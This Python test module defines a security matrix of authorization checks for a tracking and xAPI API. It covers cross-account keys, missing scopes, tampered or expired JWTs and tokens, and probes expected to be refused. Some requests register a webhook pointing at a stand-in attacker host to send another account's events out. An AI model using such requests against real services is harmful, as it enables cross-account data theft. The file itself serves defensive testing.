"""The security matrix: for every route of template.yaml, how it authenticates and what it must answer.

Keyed by (METHOD, resource path) exactly as the template declares the route. A route the template
gains without an entry here fails test_matrix with a message naming it: add an entry saying
- `Basic(...)`: userId:apiKey routes; the request aims at account A's data, and the statuses another
  account's full key and an account-A key lacking the route's scope must get;
- `Public(...)`: public by design, with rows for the route's own credentials (tokens, JWTs);
AWS_IAM routes (/admin/*) need no entry: API Gateway authorizes them (SigV4, execute-api:Invoke) before
any function runs, so the template's `Auth: Authorizer: AWS_IAM` is their entry (see `entry_for`).
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from security_world import OUTSIDER_JWT_SECRET, STATEMENT_ID, STATEMENT_MARK, XAPI_HEADERS, World

from trackhub_cli.seed import PUBLISHER


@dataclass(frozen=True)
class Request:
    method: str
    path: str
    body: Any = None
    raw: str | None = None
    query: dict[str, str] | None = None
    headers: dict[str, str] = field(default_factory=dict)

    def sent(self) -> str:
        """Everything the caller put in the request: echoing it back is no leak."""
        return f"{self.path} {self.body!r} {self.raw} {self.query!r} {self.headers!r}"


Build = Callable[[World], Request]


@dataclass(frozen=True)
class Row:
    """A row for a route's own credential (a token, a JWT); the request carries its own headers."""

    name: str
    request: Build
    status: int
    later: float = 0.0  # seconds the web-tracking clock is moved ahead first (an expired webToken)


@dataclass(frozen=True)
class Basic:
    request: Build  # aims at account A's resource
    other: int  # another account's key with every non-admin scope
    no_scope: int  # an account-A key without the route's scope
    lacking: str = "events_only"  # which account-A key lacks it: events_only (no parts) or parts_only
    rows: tuple[Row, ...] = ()  # the route's own tokens, on top of the Basic key


@dataclass(frozen=True)
class Public:
    rows: tuple[Row, ...]


@dataclass(frozen=True)
class Iam:
    pass


IAM = Iam()
Entry = Basic | Public | Iam

EVENT_BODY = {
    "PublisherProgramId": PUBLISHER,
    "PublisherEventId": "SEC:matrix",
    "EventType": "SEC_TEST",
    "PublisherParticipantId": "p@example.com",
    "PublisherEventData": {"x": 1},
    "EventStartUtc": "2026-01-15T10:00:00Z",
}


def _get(path: str, **query: str) -> Build:
    return lambda w: Request("GET", path, query=query or None)


def _pull_get(w: World) -> Request:
    return Request("GET", "/v1/webtracking/pull", query={"webToken": w.demo["webToken"]})


def _start(
    code: Callable[[World], str], authorization: Callable[[World], str | None], body: Any = None
) -> Build:
    def build(w: World) -> Request:
        value = authorization(w)
        headers = {"Authorization": value} if value is not None else {}
        return Request("POST", f"/api/collector/start/{code(w)}", body=body, headers=headers)

    return build


def _expired_jwt(w: World) -> str:
    import jwt

    return "Bearer " + jwt.encode({"sub": "outsider-player", "iat": 1, "exp": 2}, OUTSIDER_JWT_SECRET)


def _token_rows(path: str, body: Any) -> tuple[Row, ...]:
    """Rows for the collector's authToken routes (track, end)."""

    def sent(token: Callable[[World], str | None]) -> Build:
        def build(w: World) -> Request:
            value = token(w)
            return Request("POST", path, body=body, headers={"Authorization": value} if value else {})

        return build

    return (
        Row("no authToken", sent(lambda w: None), 401),
        Row("unknown authToken", sent(lambda w: "f" * 64), 401),
        Row("Basic credentials instead of an authToken", sent(lambda w: w.keys["full"].header), 401),
        Row("ended session's authToken", sent(lambda w: w.ended_token), 401),
    )


def _other_session_track(path: str) -> Row:
    """Account B's live authToken is B's session: the statement lands there (and nothing of A comes
    back). /end has no such row: it would end B's session for the other rows' runs."""

    def build(w: World) -> Request:
        statement = {
            "actor": {
                "name": "outsider-player",
                "account": {"homePage": "https://hub.example.com/", "name": "x"},
            },
            "verb": {"id": "http://adlnet.gov/expapi/verbs/initialized"},
            "object": {
                "id": "https://outsider.example.com/level/1",
                "definition": {"type": "https://w3id.org/xapi/seriousgames/activity-types/level"},
            },
            "timestamp": "2026-01-15T10:00:00Z",
        }
        return Request("POST", path, body=[statement], headers={"Authorization": w.other_auth_token})

    return Row("another account's authToken", build, 200)


def _preflight(path: str) -> Public:
    return Public((Row("CORS preflight without credentials", lambda w: Request("OPTIONS", path), 200),))


def _code(w: World) -> str:
    return str(w.demo["trackingCode"])


_START_ROWS = (
    Row("unknown tracking code", _start(lambda w: "no-such-code-0000", lambda w: None), 404),
    Row("closed tracking code", _start(lambda w: w.demo["closedTrackingCode"], lambda w: None), 412),
    Row("JWT with a bad signature", _start(_code, lambda w: "Bearer " + w.demo["jwt"][:-4] + "AAAA"), 400),
    Row("expired JWT", _start(_code, _expired_jwt), 400),
    Row("another account's JWT", _start(_code, lambda w: f"Bearer {w.other_jwt}"), 400),
    Row("Basic credentials instead of a JWT", _start(_code, lambda w: w.keys["full"].header), 400),
    Row("unknown anonymous player", _start(_code, lambda w: None, {"anonymous": "no-such-player"}), 404),
)
# An xAPI statement re-using account A's statement id: account B stores its own statement under it
# (ids are per account); a 409 would tell B that A holds that id.
_XAPI_STATEMENT = {
    "id": STATEMENT_ID,
    "actor": {"mbox": "mailto:other@outsider.example.com"},
    "verb": {"id": "http://adlnet.gov/expapi/verbs/experienced"},
    "object": {"id": "https://outsider.example.com/activity/1"},
}


def _xapi(method: str, body: Any = None, **query: str) -> Build:
    return lambda w: Request(
        method, "/xapi/statements", body=body, query=query or None, headers=dict(XAPI_HEADERS)
    )


# xAPI documents: another account's key addresses A's activity and agent but reaches only its own
# documents (404 on read; its own new document on write: a fresh id each time, so no 409 / 412).
_XAPI_AGENT = json.dumps({"mbox": "mailto:learner-a@games.example.com"})
_DOCUMENT_ROUTES: dict[str, dict[str, str]] = {
    "/xapi/activities/state": {"activityId": STATEMENT_MARK, "agent": _XAPI_AGENT, "stateId": ""},
    "/xapi/activities/profile": {"activityId": STATEMENT_MARK, "profileId": ""},
    "/xapi/agents/profile": {"agent": _XAPI_AGENT, "profileId": ""},
}


def _document(method: str, path: str, query: dict[str, str]) -> Build:
    def build(w: World) -> Request:
        fresh = {k: (v or f"sec-{uuid.uuid4()}") for k, v in query.items()}
        body = {"progress": 1} if method in ("PUT", "POST") else None
        headers = {**XAPI_HEADERS, **({"If-None-Match": "*"} if method == "PUT" else {})}
        return Request(method, path, body=body, query=fresh, headers=headers)

    return build


def _xapi_lookup(method: str, path: str, **query: str) -> Build:
    return lambda w: Request(method, path, query=query, headers=dict(XAPI_HEADERS))


WEEK_AND_A_SECOND = 7 * 24 * 3600 + 1.0  # past the template's WEBTOKEN_TTL_SECONDS


def _web_token_rows(path: str, method: str = "POST", **extra: Any) -> tuple[Row, ...]:
    """A's own key with a webToken that is unknown, malformed, expired, or another account's."""

    def with_token(token: Callable[[World], str]) -> Build:
        def build(w: World) -> Request:
            auth = {"Authorization": w.keys["full"].header}
            if method == "GET":
                return Request("GET", path, query={"webToken": token(w)}, headers=auth)
            return Request("POST", path, body={"webToken": token(w), **extra}, headers=auth)

        return build

    return (
        Row("unknown webToken", with_token(lambda w: "wt_" + "0" * 40), 404),
        Row("another account's webToken", with_token(lambda w: w.other_web_token), 404),
        Row("expired webToken", with_token(lambda w: w.demo["webToken"]), 404, later=WEEK_AND_A_SECOND),
        Row("over-long webToken", with_token(lambda w: "x" * 201), 400),
    )


def _user_token_rows() -> tuple[Row, ...]:
    def push(user_token: Callable[[World], str]) -> Build:
        return lambda w: Request(
            "POST",
            "/v1/webtracking/push",
            body={
                "userToken": user_token(w),
                "activity_ID": w.demo["activity"]["ID"],
                "pathway": w.demo["pathway"]["ID"],
                "progress": 5,
            },
            headers={"Authorization": w.keys["full"].header},
        )

    return (Row("unknown userToken", push(lambda w: "ut_" + "0" * 40), 404),)


_TRACK_BODY = [{"actor": {"name": "x"}, "verb": {"id": "http://adlnet.gov/expapi/verbs/initialized"}}]

MATRIX: dict[tuple[str, str], Entry] = {
    # ---------------------------------------------------------------- public by design
    ("GET", "/health"): Public(
        (
            Row("no credentials", _get("/health"), 200),
            Row(
                "another account's key",
                lambda w: Request("GET", "/health", headers={"Authorization": w.keys["other"].header}),
                200,
            ),
        )
    ),
    ("POST", "/api/collector/start/{trackingCode}"): Public(_START_ROWS),
    ("POST", "/api/proxy/gleaner/collector/start/{trackingCode}"): Public(_START_ROWS[:1]),
    ("OPTIONS", "/api/collector/start/{trackingCode}"): _preflight("/api/collector/start/x"),
    ("OPTIONS", "/api/proxy/gleaner/collector/start/{trackingCode}"): _preflight(
        "/api/proxy/gleaner/collector/start/x"
    ),
    ("POST", "/api/collector/track"): Public(
        (*_token_rows("/api/collector/track", _TRACK_BODY), _other_session_track("/api/collector/track"))
    ),
    ("POST", "/api/proxy/gleaner/collector/track"): Public(
        (
            *_token_rows("/api/proxy/gleaner/collector/track", _TRACK_BODY),
            _other_session_track("/api/proxy/gleaner/collector/track"),
        )
    ),
    ("OPTIONS", "/api/collector/track"): _preflight("/api/collector/track"),
    ("OPTIONS", "/api/proxy/gleaner/collector/track"): _preflight("/api/proxy/gleaner/collector/track"),
    ("POST", "/api/collector/end"): Public(_token_rows("/api/collector/end", None)),
    ("POST", "/api/proxy/gleaner/collector/end"): Public(
        _token_rows("/api/proxy/gleaner/collector/end", None)
    ),
    ("OPTIONS", "/api/collector/end"): _preflight("/api/collector/end"),
    ("OPTIONS", "/api/proxy/gleaner/collector/end"): _preflight("/api/proxy/gleaner/collector/end"),
    # ---------------------------------------------------------------- Basic userId:apiKey
    ("GET", "/xapi/about"): Public(
        (
            Row("no credentials", _get("/xapi/about"), 200),
            Row(
                "another account's key",
                lambda w: Request("GET", "/xapi/about", headers={"Authorization": w.keys["other"].header}),
                200,
            ),
        )
    ),
    ("GET", "/v1/whoami"): Basic(_get("/v1/whoami"), other=200, no_scope=200),
    ("POST", "/events"): Basic(
        lambda w: Request("POST", "/events", body=EVENT_BODY), other=403, no_scope=403, lacking="parts_only"
    ),
    ("POST", "/api/events"): Basic(
        lambda w: Request("POST", "/api/events", body=EVENT_BODY),
        other=403,
        no_scope=403,
        lacking="parts_only",
    ),
    ("GET", "/events/{eventId}"): Basic(
        lambda w: Request("GET", f"/events/{w.event_id}"), other=404, no_scope=404, lacking="parts_only"
    ),
    ("DELETE", "/events/{eventId}"): Basic(
        lambda w: Request("DELETE", f"/events/{w.event_id}"), other=404, no_scope=404, lacking="parts_only"
    ),
    ("DELETE", "/api/events/{id}"): Basic(
        lambda w: Request("DELETE", f"/api/events/{w.event_id}"),
        other=404,
        no_scope=404,
        lacking="parts_only",
    ),
    ("GET", "/events"): Basic(
        _get("/events", program=PUBLISHER), other=403, no_scope=403, lacking="parts_only"
    ),
    ("GET", "/api/events/{id}"): Basic(
        _get(f"/api/events/{PUBLISHER}"), other=403, no_scope=403, lacking="parts_only"
    ),
    ("POST", "/v1/webtracking/pull"): Basic(
        lambda w: Request("POST", "/v1/webtracking/pull", body={"webToken": w.demo["webToken"]}),
        other=404,
        no_scope=403,
        rows=_web_token_rows("/v1/webtracking/pull"),
    ),
    ("GET", "/v1/webtracking/pull"): Basic(
        _pull_get, other=404, no_scope=403, rows=_web_token_rows("/v1/webtracking/pull", "GET")
    ),
    ("POST", "/v1/webtracking/push"): Basic(
        lambda w: Request(
            "POST", "/v1/webtracking/push", body={"webToken": w.demo["webToken"], "progress": 99}
        ),
        other=404,
        no_scope=403,
        rows=_web_token_rows("/v1/webtracking/push", progress=98) + _user_token_rows(),
    ),
    ("POST", "/v1/content/render"): Basic(
        lambda w: Request("POST", "/v1/content/render", body={"content": "<p>hello</p>"}),
        other=200,
        no_scope=403,
    ),
    ("POST", "/v1/webhooks"): Basic(
        lambda w: Request(
            "POST",
            "/v1/webhooks",
            body={"code": "{WEBHOOK:https://attacker.example.com/x}", "programs": [PUBLISHER]},
        ),
        other=403,
        no_scope=403,
    ),
    ("GET", "/v1/webhooks"): Basic(_get("/v1/webhooks"), other=200, no_scope=403),
    ("DELETE", "/v1/webhooks/{webhookId}"): Basic(
        lambda w: Request("DELETE", f"/v1/webhooks/{w.webhook_id}"), other=404, no_scope=403
    ),
    ("GET", "/v1/webhooks/{webhookId}/deliveries"): Basic(
        lambda w: Request("GET", f"/v1/webhooks/{w.webhook_id}/deliveries"), other=404, no_scope=403
    ),
    ("POST", "/v1/webhooks/{webhookId}/test"): Basic(
        lambda w: Request("POST", f"/v1/webhooks/{w.webhook_id}/test"), other=404, no_scope=403
    ),
    ("POST", "/v1/webhooks/{webhookId}/redrive"): Basic(
        lambda w: Request("POST", f"/v1/webhooks/{w.webhook_id}/redrive"), other=404, no_scope=403
    ),
    ("GET", "/v1/usage"): Basic(_get("/v1/usage"), other=200, no_scope=403),
    ("HEAD", "/xapi/statements"): Basic(_xapi("HEAD", statementId=STATEMENT_ID), other=404, no_scope=403),
    ("POST", "/xapi/statements"): Basic(_xapi("POST", [_XAPI_STATEMENT]), other=200, no_scope=403),
    ("PUT", "/xapi/statements"): Basic(
        _xapi("PUT", _XAPI_STATEMENT, statementId=STATEMENT_ID), other=204, no_scope=403
    ),
    ("GET", "/xapi/statements"): Basic(
        lambda w: Request(
            "GET", "/xapi/statements", query={"statementId": w.statement_id}, headers=dict(XAPI_HEADERS)
        ),
        other=404,
        no_scope=403,
    ),
    **{
        (method, path): Basic(_document(method, path, query), other=other, no_scope=403)
        for path, query in _DOCUMENT_ROUTES.items()
        for method, other in (("GET", 404), ("HEAD", 404), ("PUT", 204), ("POST", 204), ("DELETE", 204))
    },
    ("GET", "/xapi/activities"): Basic(
        _xapi_lookup("GET", "/xapi/activities", activityId=STATEMENT_MARK), other=404, no_scope=403
    ),
    ("HEAD", "/xapi/activities"): Basic(
        _xapi_lookup("HEAD", "/xapi/activities", activityId=STATEMENT_MARK), other=404, no_scope=403
    ),
    ("GET", "/xapi/agents"): Basic(
        _xapi_lookup("GET", "/xapi/agents", agent=_XAPI_AGENT), other=200, no_scope=403
    ),
    ("HEAD", "/xapi/agents"): Basic(
        _xapi_lookup("HEAD", "/xapi/agents", agent=_XAPI_AGENT), other=200, no_scope=403
    ),
}


@dataclass(frozen=True)
class Probe:
    """A cross-account or cross-right attempt beyond the five cases, with the key it uses."""

    name: str
    key: str  # a World.keys name
    request: Build
    status: int
    # a_values() names the answer may hold because they are the caller's own too (see _XAPI_STATEMENT)
    own: tuple[str, ...] = ()


def _hub_program(w: World, part: str) -> str:
    return str(w.demo["hubPrograms"][part])


PROBES: tuple[Probe, ...] = (
    Probe(
        "another account's events:read:* does not cover A's hub webtracking program",
        "other",
        lambda w: Request("GET", "/events", query={"program": _hub_program(w, "webtracking")}),
        403,
    ),
    Probe(
        "another account's events:read:* does not cover A's hub collector program (Learning Hub path)",
        "other",
        lambda w: Request("GET", f"/api/events/{_hub_program(w, 'collector')}"),
        403,
    ),
    Probe(
        "A's own events:publish:* may not publish as A's hub collector program",
        "full",
        lambda w: Request(
            "POST", "/events", body={**EVENT_BODY, "PublisherProgramId": _hub_program(w, "collector")}
        ),
        403,
    ),
    Probe(
        "a read-only subscriber key may not delete the publisher's event",
        "subscriber",
        lambda w: Request("DELETE", f"/events/{w.event_id}"),
        403,
    ),
    Probe(
        "another account's key may not subscribe a webhook to A's hub program",
        "other",
        lambda w: Request(
            "POST",
            "/v1/webhooks",
            body={
                "code": "{WEBHOOK:https://attacker.example.com/x}",
                "programs": [_hub_program(w, "webtracking")],
            },
        ),
        403,
    ),
    Probe(
        "another account's key cannot push by A's userToken + activity + pathway",
        "other",
        lambda w: Request(
            "POST",
            "/v1/webtracking/push",
            body={
                "userToken": w.demo["userToken"],
                "activity_ID": w.demo["activity"]["ID"],
                "pathway": w.demo["pathway"]["ID"],
                "progress": 1,
            },
        ),
        404,
    ),
    Probe(
        "another account's key lists only its own xAPI statements",
        "other",
        lambda w: Request("GET", "/xapi/statements", headers=dict(XAPI_HEADERS)),
        200,
        own=("statement id",),  # B's own statement, stored under the same id by the POST/PUT rows
    ),
    Probe(
        "another account's key finds no xAPI statements by A's activity",
        "other",
        lambda w: Request(
            "GET", "/xapi/statements", query={"activity": STATEMENT_MARK}, headers=dict(XAPI_HEADERS)
        ),
        200,
    ),
    Probe(
        "A's userId with another account's secret",
        "mixed",
        lambda w: Request("GET", "/v1/whoami"),
        401,
    ),
    Probe(
        "a key of a revoked account",
        "revoked_account",
        lambda w: Request("GET", "/v1/whoami"),
        401,
    ),
)


def entry_for(method: str, resource: str, iam_auth: bool) -> Entry | None:
    """The matrix entry of a route; AWS_IAM routes are IAM by the template's own declaration."""
    return IAM if iam_auth else MATRIX.get((method, resource))
